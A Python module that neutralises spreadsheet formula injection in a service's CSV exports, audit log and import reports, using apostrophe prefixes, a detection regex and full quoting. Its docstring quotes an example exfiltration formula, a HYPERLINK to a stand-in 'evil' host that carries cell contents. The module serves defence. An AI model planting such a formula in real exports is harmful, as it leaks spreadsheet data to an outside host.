"""CSV that a spreadsheet opens as data: no cell runs as a formula (OWASP "CSV injection").

Every CSV the service writes goes through here: the priority-zones export, the audit log, the
rejected-rows reports of imports and ``porte geocode``'s output. Their text comes in part from
files (district and street names, a supporter file's columns) or from clients, so a cell such as
``=HYPERLINK("http://evil/?"&A1)`` or ``@SUM(...)`` could run in the reader's spreadsheet.

Rules (OWASP, and one more for spreadsheets that split on another separator):
- a text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a
  leading apostrophe (``'=1+1``): shown as text;
- the same inside a text cell after a ``,``, ``;``, tab or line break (spaces allowed between):
  a spreadsheet set to split on ``;`` (French locale) ignores the quotes of a comma-separated
  file and would start a new cell there (``Bourg;=1+1`` -> ``Bourg;'=1+1``);
- every text cell is quoted (RFC 4180), numbers stay numbers (``-0.52`` is a number, it cannot
  be a formula).

Limit: the apostrophe is part of the value for programs that read the CSV as data; a program
that needs the raw text should read the GeoJSON, GeoPackage or Parquet export instead.
"""

from __future__ import annotations

import csv
import io
import math
import re
from collections.abc import Iterable
from typing import IO, Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# Where a cell starts, for this writer or for a reader that splits on another separator: then
# a formula character (after optional spaces), or a tab / carriage return.
_RISKY = re.compile(r"(?:^|(?<=[,;\t\r\n]))(?=[ \t]*[=+\-@]|[\t\r])")


def cell(value: Any) -> Any:
    """One value, safe for a spreadsheet: numbers as numbers, text neutralised, NA as blank."""
    if value is None:
        return None
    if hasattr(value, "item") and not isinstance(value, str | bytes):  # numpy scalars
        value = value.item()
    if isinstance(value, bool | int):
        return value
    if isinstance(value, float):
        return None if math.isnan(value) else value
    if type(value).__name__ in ("NAType", "NaTType"):  # pandas.NA, pandas.NaT
        return None
    text = value.isoformat() if hasattr(value, "isoformat") else str(value)
    return _RISKY.sub("'", text)


class SafeWriter:
    """``csv.writer`` whose cells go through ``cell`` and whose text cells are all quoted."""

    def __init__(self, fh: IO[str], **kwargs: Any):
        self._w = csv.writer(fh, quoting=csv.QUOTE_NONNUMERIC, **kwargs)

    def writerow(self, row: Iterable[Any]) -> None:
        self._w.writerow([cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class SafeDictWriter:
    """``csv.DictWriter`` with the same rules (header quoted and neutralised too)."""

    def __init__(self, fh: IO[str], fieldnames: list[str], **kwargs: Any):
        self.fieldnames = fieldnames
        self._w = SafeWriter(fh, **kwargs)

    def writeheader(self) -> None:
        self._w.writerow(self.fieldnames)

    def writerow(self, row: dict[str, Any]) -> None:
        self._w.writerow([row.get(k) for k in self.fieldnames])


def rows_to_csv(header: Iterable[Any], rows: Iterable[Iterable[Any]]) -> str:
    """A whole CSV (header + rows) as text."""
    buf = io.StringIO()
    w = SafeWriter(buf)
    w.writerow(header)
    w.writerows(rows)
    return buf.getvalue()


def frame_to_csv(frame: Any) -> bytes:
    """A pandas DataFrame as UTF-8 CSV bytes, with the rules above."""
    return rows_to_csv(frame.columns, frame.itertuples(index=False, name=None)).encode("utf-8")
